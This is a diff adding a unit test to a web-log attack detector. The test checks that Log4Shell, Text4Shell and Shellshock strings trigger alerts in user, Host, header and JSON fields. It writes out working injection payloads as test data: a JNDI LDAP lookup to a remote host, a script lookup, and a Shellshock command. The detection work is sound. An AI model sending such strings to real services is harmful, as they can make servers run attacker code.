@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { applyClaim, decideClaim } from '../../lambdas/core/decide.js';
+import type { DetectorOptions } from '../../lambdas/core/scan.js';
 import { EventWindow } from '../../lambdas/core/window.js';
 import { scanLines } from '../support/detector.js';
 import { timeAt } from '../support/records.js';
@@ -130,6 +131,35 @@ describe('event-time windows', () => {
     const mine = scanLines({ a: own }, { trustedProxies: ['10.0.0.0/8'] }, { format }).report;
     assert.equal(mine.alerts.length, 0);
     assert.equal(mine.benign.find((b) => b.category === 'health-check')?.requests, 20);
+  });
+
+  it('Log4Shell, Text4Shell and Shellshock alert in fields the record does not keep (user, Host, a logged header, a JSON field)', () => {
+    const jndi = '${jndi:ldap://192.0.2.1/a}';
+    const cases: [string, string, DetectorOptions][] = [
+      ['the user name', `198.51.100.1 - ${jndi} [${timeAt(0)}] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0"`, {}],
+      ['a header logged after the user agent', `198.51.100.2 - - [${timeAt(0)}] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0" "${jndi}"`, {}],
+      [
+        'the Host',
+        `198.51.100.3 - - [${timeAt(0)}] "GET / HTTP/1.1" 200 5 "${jndi}"`,
+        { format: 'nginx:$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$host"' },
+      ],
+      [
+        'a JSON field',
+        `{"time":"2024-01-01T00:00:00Z","remote_addr":"198.51.100.4","request":"GET / HTTP/1.1","status":200,"http_x_api_version":"${jndi}"}`,
+        {},
+      ],
+      ['Text4Shell in a header', `198.51.100.5 - - [${timeAt(0)}] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0" "\${script:js:1}"`, {}],
+      ['Shellshock in a header', `198.51.100.6 - - [${timeAt(0)}] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0" "() { :; }; /bin/id"`, {}],
+    ];
+    for (const [where, line, options] of cases) {
+      const { report } = scanLines({ a: [line] }, {}, options);
+      assert.equal(report.lines.parsed, 1, where);
+      assert.equal(report.alerts.length, 1, where);
+      assert.match(report.alerts[0]?.categories.join() ?? '', /log4shell|text4shell|shellshock/, where);
+    }
+    // A line without any of it is not labelled by the scan of the whole line.
+    const plain = scanLines({ a: [`198.51.100.7 - - [${timeAt(0)}] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0" "$ {x} (y)"`] }).report;
+    assert.equal(plain.alerts.length, 0);
   });
 
   it('allowlisted CIDRs are never alerted', () => {
